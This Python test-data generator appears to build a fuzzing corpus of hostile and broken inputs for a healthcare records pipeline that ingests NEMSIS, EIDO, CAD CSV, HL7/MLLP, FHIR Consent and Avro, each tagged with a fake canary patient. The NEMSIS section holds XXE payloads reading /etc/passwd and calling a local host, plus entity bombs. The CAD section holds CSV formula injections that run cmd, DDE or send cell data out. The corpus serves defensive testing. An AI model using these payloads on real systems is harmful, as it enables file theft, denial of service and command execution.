"""The bad-input corpus: hostile and broken documents made here with a fixed seed (nothing copied).

    python -m tests.data.hostile.generate [--out DIR] [--seed N]   # write every case (and index.json)
    python -m tests.data.hostile.generate --count                   # how many cases, by family

Each `Case` is one input on one channel: an HTTP intake path (`http:nemsis`, `http:eido`,
`http:cad`, `http:field`, `http:consent`), the MLLP listener (`mllp`: the bytes as sent on the
socket, framing included), the file path (`file:<kind>`, as `handoff ingest` reads it), or a
topic (`avro:<topic>`: bytes produced straight to it, for the stage wrapper to decode). Every
document carries the canary person (`CANARY_*`), so a test can look for it in logs, metrics
labels and dead-letter reasons. `expect` is what must happen: `refused` (a dead letter with a
reason, or an edge refusal with a reason) for every case but the few kept as data on purpose,
which say why in `note`.

The committed `sample/` holds a handful of these for reading; the tests generate the rest.
"""
from __future__ import annotations

import argparse
import base64
import json
import random
import struct
from collections import Counter
from dataclasses import asdict, dataclass
from pathlib import Path

CANARY_GIVEN, CANARY_FAMILY = "Zebulon", "Quixcanary"
CANARY_DOB, CANARY_PHONE = "1911-11-11", "555-0199"
CANARY = (CANARY_FAMILY, CANARY_DOB, CANARY_PHONE)
NEMSIS_NS = "http://www.nemsis.org"
HUGE = 2 * 1024 * 1024  # over the corpus test's 1 MiB body / message limit


@dataclass(frozen=True)
class Case:
    name: str
    family: str                # nemsis-malformed, eido-deep, hl7-delimiters, avro-fingerprint, ...
    channel: str               # http:<kind> | mllp | file:<kind> | avro:<topic>
    data: bytes
    content_type: str = ""
    expect: str = "refused"    # refused | partial (a bad record refused beside good ones) | accepted (on purpose)
    note: str = ""


# --- NEMSIS ------------------------------------------------------------------------------------

def pcr(uuid: str = "hostile-1", incident: str = "24-9001", when: str = "2024-10-07T20:20:00-04:00",
        narrative: str = "Pt found unresponsive, narcan given", extra: str = "") -> str:
    return (f'<PatientCareReport UUID="{uuid}"><eRecord><eRecord.01>PCR-{uuid}</eRecord.01></eRecord>'
            "<eResponse><eResponse.AgencyGroup><eResponse.01>ems-012</eResponse.01></eResponse.AgencyGroup>"
            f"<eResponse.03>{incident}</eResponse.03></eResponse><eTimes><eTimes.01>{when}</eTimes.01></eTimes>"
            f"<ePatient><ePatient.PatientNameGroup><ePatient.02>{CANARY_FAMILY}</ePatient.02>"
            f"<ePatient.03>{CANARY_GIVEN}</ePatient.03></ePatient.PatientNameGroup>"
            f"<ePatient.17>{CANARY_DOB}</ePatient.17><ePatient.18>{CANARY_PHONE}</ePatient.18></ePatient>"
            "<eSituation><eSituation.11>T40.1X1A</eSituation.11></eSituation>"
            f"<eNarrative><eNarrative.01>{narrative}</eNarrative.01></eNarrative>{extra}</PatientCareReport>")


def emsdataset(body: str, ns: str = NEMSIS_NS, prolog: str = '<?xml version="1.0" encoding="UTF-8"?>') -> bytes:
    return (f'{prolog}<EMSDataSet xmlns="{ns}"><Header><DemographicGroup><dAgency.02>ems-012</dAgency.02>'
            f"</DemographicGroup>{body}</Header></EMSDataSet>").encode()


def nemsis(rng: random.Random) -> list[Case]:
    good = emsdataset(pcr())
    out = []
    for i in range(10):  # cut anywhere: not well-formed
        out.append(Case(f"nemsis-truncated-{i}", "nemsis-malformed", "", good[:rng.randrange(40, len(good) - 20)]))
    for i, bad in enumerate((good.replace(b"</eRecord>", b""), good.replace(b"<eTimes>", b"<eTimes", 1),
                             good + b"<trailing/>", good.replace(b"ems-012", b"ems\x00012", 1),
                             good.replace(b"Pt found", b"Pt \xff\xfe found"), b"\xef\xbb\xbf" + good[:-5],
                             good.replace(b"<Header>", b"<Header><<>>"), b"<EMSDataSet/>" * 3,
                             b"", b"   \n\t ")):
        out.append(Case(f"nemsis-broken-{i}", "nemsis-malformed", "", bad))
    xxe = ['<!DOCTYPE EMSDataSet [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
           '<!DOCTYPE EMSDataSet [<!ENTITY x SYSTEM "http://127.0.0.1:9/leak">]>',
           '<!DOCTYPE EMSDataSet [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]>',
           '<!DOCTYPE EMSDataSet SYSTEM "http://127.0.0.1:9/nemsis.dtd">',
           '<!DOCTYPE EMSDataSet [<!ENTITY x SYSTEM "expect://id">]>',
           '<!DOCTYPE EMSDataSet [<!ENTITY x SYSTEM "php://filter/resource=/etc/passwd">]>',
           '<!doctype EMSDataSet [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
           '<!DOCTYPE EMSDataSet PUBLIC "-//X//Y" "file:///dev/random">']
    for i, decl in enumerate(xxe):
        out.append(Case(f"nemsis-xxe-{i}", "nemsis-xxe", "", emsdataset(pcr(narrative="&x;"), prolog=decl)))
    lol = "".join(f'<!ENTITY l{n} "{"&l%d;" % (n - 1) * 10}">' for n in range(1, 10))
    bombs = [f'<!DOCTYPE EMSDataSet [<!ENTITY l0 "lol">{lol}]>',
             f'<!DOCTYPE EMSDataSet [<!ENTITY a "{"x" * 50_000}">]>',
             '<!DOCTYPE EMSDataSet [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
             f'<!DOCTYPE EMSDataSet [<!ENTITY l0 "lol">{lol.replace("l", "q")}]>']
    for i, decl in enumerate(bombs):
        ref = "&l9;" if i == 0 else "&a;" * (1 if i != 1 else 2000) if i < 3 else "&q9;"
        out.append(Case(f"nemsis-bomb-{i}", "nemsis-entity-bomb", "", emsdataset(pcr(narrative=ref), prolog=decl)))
    out.append(Case("nemsis-bomb-utf16", "nemsis-entity-bomb", "",
                    emsdataset(pcr(narrative="&l9;"), prolog=f'<!DOCTYPE EMSDataSet [<!ENTITY l0 "lol">{lol}]>')
                    .decode().encode("utf-16")))
    for i, ns in enumerate(("", "http://www.nemsis.org/v2", "http://www.nemsis.org/", "urn:nemsis",
                            "http://www.NEMSIS.org", "http://example.test/not-nemsis")):
        data = emsdataset(pcr(), ns=ns) if ns else emsdataset(pcr()).replace(f' xmlns="{NEMSIS_NS}"'.encode(), b"")
        out.append(Case(f"nemsis-namespace-{i}", "nemsis-wrong-namespace", "", data))
    for i, root in enumerate(("StateDataSet", "DEMDataSet", "EMSDataSetV2", "PatientCareReport")):
        data = emsdataset(pcr()).replace(b"EMSDataSet", root.encode())
        out.append(Case(f"nemsis-version-{i}", "nemsis-wrong-version", "", data))
    out.append(Case("nemsis-version-v2-elements", "nemsis-wrong-version", "",  # NEMSIS 2 shape: E01_01 elements
                    emsdataset('<Record><E01><E01_01>hostile-v2</E01_01></E01><E06><E06_01>'
                               f'{CANARY_FAMILY}</E06_01></E06></Record>')))
    for i in range(2):
        out.append(Case(f"nemsis-huge-narrative-{i}", "nemsis-huge-narrative", "",
                        emsdataset(pcr(narrative=(f"{CANARY_FAMILY} " * (HUGE // 10 + i)))),
                        note="over the body / file limit"))
    for i, when in enumerate(("2024-13-45T25:61:00-04:00", "2024-02-30T10:00:00Z", "yesterday", "0000-00-00T00:00:00",
                              "99999-01-01T00:00:00Z", "2024-10-07T20:20:00+99:00", "2024-10-07", "NaN")):
        out.append(Case(f"nemsis-date-{i}", "nemsis-invalid-date", "", emsdataset(pcr(uuid=f"hostile-date-{i}", when=when)),
                        expect="accepted", note="an impossible date does not refuse a PCR (no XSD configured): it is "
                                                "ignored, and a date-shaped one is named in the run's findings"))
    for i in range(3):
        deep = "<eCustomResults>" * (60 + 20 * i) + "x" + "</eCustomResults>" * (60 + 20 * i)
        out.append(Case(f"nemsis-deep-{i}", "nemsis-malformed", "", emsdataset(pcr(extra=deep))))
    for i, enc in enumerate(("ISO-8859-1", "UTF-16", "windows-1252", "EBCDIC-US")):
        out.append(Case(f"nemsis-encoding-{i}", "nemsis-malformed", "",
                        emsdataset(pcr(), prolog=f'<?xml version="1.0" encoding="{enc}"?>')))
    out.append(Case("nemsis-no-pcr", "nemsis-malformed", "", emsdataset("")))
    out.append(Case("nemsis-pcr-no-id", "nemsis-malformed", "", emsdataset(pcr(uuid="").replace("PCR-", ""))))
    return out


# --- EIDO (JSON) -------------------------------------------------------------------------------

def eido_doc() -> dict:
    return {"$id": "eido-hostile", "eidoMessageIdentifier": "eido-hostile", "lastUpdateTimeStamp": "2024-10-07T20:20:00Z",
            "incidentComponent": [{"$id": "inc-1", "incidentTrackingIdentifier": "24-9002",
                                   "incidentTypeCommonRegistryText": ["Overdose"]}],
            "personComponent": [{"$id": "p-1", "personNameFirst": CANARY_GIVEN, "personNameLast": CANARY_FAMILY,
                                 "personDateOfBirth": CANARY_DOB, "personPhone": CANARY_PHONE}],
            "notesComponent": [{"$id": "n-1", "notesActionComment": f"{CANARY_FAMILY} overdose"}]}


def eido(rng: random.Random) -> list[Case]:
    out = []
    for i, depth in enumerate((200, 1000, 5000, 20000, 100_000)):
        nested = "[" * depth + "]" * depth if i % 2 else '{"a":' * depth + "1" + "}" * depth
        doc = json.dumps(eido_doc())[:-1] + f', "x": {nested}}}'
        out.append(Case(f"eido-deep-{i}", "eido-deep-nesting", "", doc.encode()))
    out.append(Case("eido-deep-components", "eido-deep-nesting", "",
                    json.dumps({"incidentComponent": [{"$id": "a", "notesComponent": []}]} | eido_doc()).encode()
                    .replace(b'"notesComponent": []', b'"notesComponent": ' + b"[" * 3000 + b"]" * 3000)))
    wrong = [("incidentComponent", "not a list"), ("incidentComponent", [1, 2, 3]), ("incidentComponent", None),
             ("incidentComponent", {"$id": "x"}), ("lastUpdateTimeStamp", 12345), ("lastUpdateTimeStamp", ["x"]),
             ("personComponent", "Zebulon"), ("personComponent", [[CANARY_FAMILY]]), ("notesComponent", 3.5),
             ("$id", {"nested": True}), ("eidoMessageIdentifier", None), ("incidentComponent", [{"$id": 5}])]
    for i, (field, value) in enumerate(wrong):
        doc = eido_doc()
        doc[field] = value
        doc.pop("eidoMessageIdentifier", None) if i % 3 == 0 else None
        out.append(Case(f"eido-type-{i}", "eido-wrong-types", "", json.dumps(doc).encode()))
    for i, key in enumerate(("incidentTrackingIdentifier", "incidentTypeCommonRegistryText")):
        doc = eido_doc()
        doc["incidentComponent"][0][key] = {"deep": [1, {"x": None}]}
        doc["incidentComponent"][0]["incidentTrackingIdentifier"] = [] if i else None
        out.append(Case(f"eido-type-inner-{i}", "eido-wrong-types", "", json.dumps(doc).encode()))
    for i, n in enumerate((50_000, 120_000)):
        doc = eido_doc()
        doc["incidentComponent"] = [{"$id": f"i{k}"} for k in range(n // 10)]
        doc["x"] = list(range(n))
        out.append(Case(f"eido-array-{i}", "eido-huge-arrays", "", json.dumps(doc).encode(),
                        note="big, under the limit: refused for want of an incident id"))
    out.append(Case("eido-array-over-limit", "eido-huge-arrays", "", json.dumps({"x": [0] * (HUGE // 2)}).encode()))
    for i, text in enumerate((b"", b"null", b"[]", b"42", b'"string"', b"{", b"{'a': 1}", b'{"a": NaN}',
                              b'{"a": Infinity}', b"\xff\xfe{\x00}\x00", b'{"a": "\xff"}', b"\x00" * 64)):
        out.append(Case(f"eido-not-json-{i}", "eido-wrong-types", "", text))
    return out


# --- CAD exports (CSV) -------------------------------------------------------------------------

HEADER = "Incident Number,Call Received,Call Type,Address,City,Caller Name,Caller Phone,Notes,Disposition"


def cad_row(**changes: str) -> dict:
    row = {"Incident Number": "24-9003", "Call Received": "2024-10-07T20:20:00-04:00", "Call Type": "OD",
           "Address": "1 Main St", "City": "Springfield", "Caller Name": f"{CANARY_GIVEN} {CANARY_FAMILY}",
           "Caller Phone": CANARY_PHONE, "Notes": f"{CANARY_FAMILY} not breathing", "Disposition": "15"}
    return row | changes


def csv_of(rows: list[dict]) -> str:
    def cell(v: str) -> str:
        return '"' + v.replace('"', '""') + '"' if any(c in v for c in ',"\n') else v
    return "\r\n".join([HEADER] + [",".join(cell(r[k]) for k in HEADER.split(",")) for r in rows]) + "\r\n"


def cad(rng: random.Random) -> list[Case]:
    out = []
    text = csv_of([cad_row()])
    for i, enc in enumerate(("utf-16", "utf-32", "utf-16-be")):
        out.append(Case(f"cad-encoding-{i}", "cad-bad-encoding", "", text.encode(enc)))
    for i, raw in enumerate((text.encode().replace(b"Springfield", b"Springf\xe9ld"),
                             text.encode().replace(b"not", b"\xc3\x28"), b"\x00".join(text.encode().split(b",")),
                             text.encode("cp1252") + b"\x81\x8d\x8f")):
        out.append(Case(f"cad-bytes-{i}", "cad-bad-encoding", "", raw))
    lines = text.strip().split("\r\n")
    ragged = [lines[0] + "\r\n" + lines[1] + ",extra,more\r\n", lines[0] + "\r\n" + lines[1].rsplit(",", 4)[0] + "\r\n",
              lines[0] + "\r\n\r\n,,,\r\n", lines[0].replace(",", ";") + "\r\n" + lines[1] + "\r\n",
              lines[0] + "\r\n" + '"unterminated,quote\r\n', lines[1] + "\r\n",  # no header
              lines[0] + "\r\n" + ",".join([""] * 9) + "\r\n", lines[0] + "\r\n" + lines[1] + "\r\n" + "x" * 200 + "\r\n"]
    for i, doc in enumerate(ragged):
        out.append(Case(f"cad-ragged-{i}", "cad-ragged-rows", "", doc.encode(), expect="partial" if i == 7 else "refused",
                        note="a good row then a bad one" if i == 7 else ""))
    formulas = ["=cmd|' /C calc'!A0", "+HYPERLINK(\"http://127.0.0.1:9/?x=\"&A1)", "-2+3", "@SUM(1+1)*cmd|'/c x'!Z",
                "=IMPORTXML(CONCAT(\"http://127.0.0.1:9/\",A2),\"//a\")", "\t=1+1", "\r=1+1", "=DDE(\"cmd\";\"/c x\";\"\")"]
    inert = ("a formula is kept as text, never evaluated: Handoff writes no spreadsheet of CAD fields (the one CSV "
             "export, the privacy officer's accounting, carries ids, codes and directory names only)")
    for i, formula in enumerate(formulas):  # in the incident number (the record's key) and in a note
        out.append(Case(f"cad-formula-id-{i}", "cad-formula-injection", "",
                        csv_of([cad_row(**{"Incident Number": formula})]).encode(), expect="accepted", note=inert))
    for i, formula in enumerate(formulas[:4]):
        out.append(Case(f"cad-formula-note-{i}", "cad-formula-injection", "",
                        csv_of([cad_row(Notes=formula, **{"Incident Number": f"24-91{i}"})]).encode(),
                        expect="accepted", note=inert))
    for i, doc in enumerate((b"", b"\r\n", HEADER.encode(), (HEADER + "\r\n" + "a," * 100_000).encode(),
                             b'{"Incident Number": }\n', b"[1,2]\n{}\n")):
        out.append(Case(f"cad-empty-{i}", "cad-ragged-rows", "", doc))
    return out


# --- HL7 v2 over MLLP --------------------------------------------------------------------------

def hl7(control: str = "HOSTILE1", msh: str | None = None, trigger: str = "ORU^R01") -> bytes:
    head = msh or f"MSH|^~\\&|EPCR|EMS-012|HANDOFF|HANDOFF|20241007202000-0400||{trigger}|{control}|P|2.5.1"
    return "\r".join([head, f"PID|1||MRN-1^^^EMS-012||{CANARY_FAMILY}^{CANARY_GIVEN}||19111111|M|||||{CANARY_PHONE}",
                      "PV1|1|E", "OBX|1|TX|NARR^Narrative||overdose, narcan given||||||F"]).encode() + b"\r"


def mllp(message: bytes) -> bytes:
    return b"\x0b" + message + b"\x1c\x0d"


def hl7v2(rng: random.Random) -> list[Case]:
    out = []
    heads = ["MSH^~\\&|EPCR|EMS-012|H|H|20241007||ORU^R01|D1|P|2.5.1", "MSH||||", "MSH|", "MSH|^~\\&",
             "MSH#^~\\&#EPCR#EMS-012#H#H#20241007##ORU^R01#D5#P#2.5.1", "MSH|\\\\\\\\|EPCR|EMS-012",
             "MSH|^~\\&|EPCR|EMS-012|H|H|20241007||ORU|D7|P|2.5.1", "MSH|^^^^|EPCR|EMS-012|H|H|2024||ORU^R01|D8|P|2.5.1",
             "MSH\x00^~\\&|EPCR|EMS-012|H|H|20241007||ORU^R01|D9|P|2.5.1", "MSH|^~\\&|" + "x" * 70_000]
    for i, head in enumerate(heads):
        out.append(Case(f"hl7-delimiters-{i}", "hl7-bad-delimiters", "", mllp(hl7(msh=head))))
    for i, body in enumerate((b"PID|1||MRN\rPV1|1|E\r", b"", b"\r\r\r", b"EVN|A04\rMSH|^~\\&|late\r",
                              b"msh|^~\\&|EPCR|EMS-012", f"{CANARY_FAMILY} overdose".encode())):
        out.append(Case(f"hl7-no-msh-{i}", "hl7-missing-msh", "", mllp(body)))
    for i, trigger in enumerate(("ADT^A01", "QRY^A19", "ORM^O01", "ACK", "REF^I12", "ORU^R99")):
        out.append(Case(f"hl7-type-{i}", "hl7-wrong-type", "", mllp(hl7(f"T{i}", trigger=trigger))))
    whole = mllp(hl7("TRUNC"))
    for i in range(6):  # the sender closes inside the frame
        out.append(Case(f"hl7-truncated-{i}", "hl7-truncated-frame", "", whole[:rng.randrange(2, len(whole) - 2)]))
    for i in range(4):  # start block and message, never the end block: the frame timeout
        out.append(Case(f"hl7-no-end-{i}", "hl7-no-end-block", "", b"\x0b" + hl7(f"NOEND{i}") + b"\x1c" * (i % 2)))
    out.append(Case("hl7-oversized", "hl7-truncated-frame", "", mllp(hl7("BIG") + b"X" * HUGE)))
    out.append(Case("hl7-start-bytes", "hl7-bad-delimiters", "", b"\x0b\x0b\x0b" + hl7("SB") .replace(b"MSH", b"\x0bMSH")
                    + b"\x1c\x0d"))
    out.append(Case("hl7-nul-segment", "hl7-bad-delimiters", "", mllp(hl7("NUL").replace(b"PV1", b"\x00\x00\x00"))))
    return out


# --- FHIR Consent, field referrals -------------------------------------------------------------

def consent_doc() -> dict:
    return {"resourceType": "Consent", "id": "hostile-c1", "status": "active",
            "patient": {"identifier": {"system": "urn:handoff:person-token:v1", "value": "tok-hostile"},
                        "display": f"{CANARY_GIVEN} {CANARY_FAMILY}"},
            "policyRule": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": "42CFRPart2"}]},
            "provision": {"type": "permit", "actor": [{"reference": {"reference": "Organization/prov-housing"}}],
                          "purpose": [{"system": "urn:handoff:purpose", "code": "treatment"}],
                          "period": {"end": "2027-03-14T02:05:00+00:00"}},
            "dateTime": "2026-03-14T02:05:00+00:00", "sourceAttachment": {"url": "doc:1"},
            "extension": [{"url": "urn:handoff:consent-signed-by", "valueCode": "patient"}]}


def consents(rng: random.Random) -> list[Case]:
    out = []
    refs = [{"reference": f"Patient/{CANARY_FAMILY}"}, {"identifier": {"system": "urn:mrn", "value": CANARY_DOB}},
            {"identifier": {"system": "urn:handoff:person-token:v1"}}, {"identifier": "tok"}, "Patient/1", None,
            {"identifier": {"system": "urn:handoff:person-token:vX", "value": "t"}}, [{"reference": "Patient/1"}]]
    for i, ref in enumerate(refs):
        doc = consent_doc()
        doc["patient"] = ref
        out.append(Case(f"consent-patient-{i}", "consent-bad-reference", "", json.dumps(doc).encode()))
    actors = [{"reference": "not-a-reference"}, [], "Organization/x", [{"reference": None}], [1, 2]]
    for i, actor in enumerate(actors):
        doc = consent_doc()
        doc["provision"]["actor"] = actor
        doc["status"] = "active" if i % 2 else "unknown-status"
        out.append(Case(f"consent-actor-{i}", "consent-bad-reference", "", json.dumps(doc).encode(),
                        expect="accepted" if i % 2 else "refused",
                        note="no recipient named: stored as an incomplete consent, which permits nothing" if i % 2 else ""))
    for i, size in enumerate((HUGE, HUGE * 2)):
        doc = consent_doc()
        doc["sourceAttachment"] = {"contentType": "application/pdf",
                                   "data": base64.b64encode(rng.randbytes(size)).decode()}
        out.append(Case(f"consent-attachment-{i}", "consent-huge-attachment", "", json.dumps(doc).encode()))
    for i, (field, value) in enumerate((("resourceType", "Patient"), ("resourceType", None), ("provision", "permit"),
                                        ("policyRule", []), ("dateTime", "not a time"), ("id", None),
                                        ("provision", {"type": "deny"}), ("extension", "x"))):
        doc = consent_doc()
        doc[field] = value
        out.append(Case(f"consent-type-{i}", "consent-wrong-types", "", json.dumps(doc).encode()))
    for i, text in enumerate((b"", b"[]", b"{", b"null", b'"Consent"')):
        out.append(Case(f"consent-not-json-{i}", "consent-wrong-types", "", text))
    return out


def field_referrals(rng: random.Random) -> list[Case]:
    base = {"referral_id": "FR-H1", "referred_at": "2025-03-01T10:00:00Z", "pathway": "officer-prevention",
            "referrer": {"role": "officer", "id": "badge-1"},
            "person": {"given": CANARY_GIVEN, "family": CANARY_FAMILY, "birth_date": CANARY_DOB, "phone": CANARY_PHONE},
            "services": ["peer-recovery"], "consent_status": "verbal"}
    out = []
    for i, (field, value) in enumerate((("referral_id", None), ("referral_id", ["x"]), ("pathway", "made-up"),
                                        ("services", "peer-recovery"), ("services", ["no-such-service"]),
                                        ("referred_at", "not a time"), ("person", CANARY_FAMILY),
                                        ("consent_status", {"x": 1}))):
        doc = dict(base)
        doc[field] = value
        lenient = {3: "a single service as a string is read as a list of one",
                   7: "a consent status that is not text is read as none (the registry proposes nothing)"}
        out.append(Case(f"field-type-{i}", "field-wrong-types", "", json.dumps(doc).encode(),
                        expect="accepted" if i in lenient else "refused", note=lenient.get(i, "")))
    out.append(Case("field-deep", "field-wrong-types", "", b"[" * 50_000 + b"]" * 50_000))
    return out


# --- Avro straight to the topics ---------------------------------------------------------------

def avro(rng: random.Random) -> list[Case]:
    from pipeline.topics import Catalogue
    from tests.support.samples import samples

    catalogue = Catalogue(prefix="hostile", partitions=1)
    made = samples()
    out = []
    for topic in ("ems.run", "dispatch.incident", "field.referral", "referral.request", "delivery", "referral.status"):
        t = catalogue[topic]
        good = t.value.encode(made[t.value.model])
        cases = [("fingerprint", good[:2] + rng.randbytes(8) + good[10:]),
                 ("fingerprint-other-record", catalogue["audit"].value.encode(made[catalogue["audit"].value.model])),
                 ("truncated", good[:rng.randrange(11, len(good) - 1)]),
                 ("truncated-header", good[:rng.randrange(1, 10)]),
                 ("trailing", good + b"\x00\x01"),
                 ("garbage-body", good[:10] + rng.randbytes(40)),
                 ("no-magic", b"\x00\x00" + good[2:]),
                 ("json", json.dumps({"person": CANARY_FAMILY}).encode())]
        for name, data in cases:
            out.append(Case(f"avro-{topic}-{name}", f"avro-{name.split('-')[0]}", f"avro:{topic}", data))
    return out


# --- the corpus --------------------------------------------------------------------------------

CHANNELS = {  # family prefix → the channels its documents go through (HTTP edge and the file path)
    "nemsis": ("http:nemsis", "file:nemsis"), "eido": ("http:eido", "file:eido"), "cad": ("http:cad", "file:cad"),
    "hl7": ("mllp",), "consent": ("http:consent",), "field": ("http:field",)}
CONTENT_TYPES = {"http:nemsis": "application/xml", "http:eido": "application/json", "http:cad": "text/csv",
                 "http:consent": "application/fhir+json", "http:field": "application/json"}


def corpus(seed: int = 28) -> list[Case]:
    rng = random.Random(seed)
    cases: list[Case] = []
    for family, make in (("nemsis", nemsis), ("eido", eido), ("cad", cad), ("hl7", hl7v2), ("consent", consents),
                         ("field", field_referrals)):
        for case in make(rng):
            for channel in CHANNELS[family]:
                if channel.startswith("file:") and case.family.endswith(("huge-narrative", "huge-arrays")):
                    continue  # the file path has no body limit: big documents go through HTTP only
                cases.append(Case(f"{case.name}@{channel}", case.family, channel, case.data,
                                  CONTENT_TYPES.get(channel, ""), case.expect, case.note))
        if family == "hl7":  # the file path reads HL7 too (unframed)
            cases += [Case(f"{c.name}@file:hl7", c.family, "file:hl7", c.data.strip(b"\x0b\x1c\x0d"), "", c.expect,
                           c.note) for c in make(random.Random(seed)) if c.family in ("hl7-bad-delimiters",
                                                                                       "hl7-missing-msh")]
    cases += avro(rng)
    return cases


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, help="write every case here (and index.json)")
    parser.add_argument("--seed", type=int, default=28)
    parser.add_argument("--count", action="store_true", help="print how many cases there are, by family")
    args = parser.parse_args(argv)
    cases = corpus(args.seed)
    if args.out:
        args.out.mkdir(parents=True, exist_ok=True)
        for case in cases:
            (args.out / case.name.replace("@", "__").replace(":", "-")).write_bytes(case.data)
        (args.out / "index.json").write_text(json.dumps([asdict(c) | {"data": len(c.data)} for c in cases], indent=1))
    for family, n in sorted(Counter(c.family for c in cases).items()):
        print(f"{n:4d}  {family}")
    print(f"{len(cases):4d}  cases (seed {args.seed})")


if __name__ == "__main__":
    main()
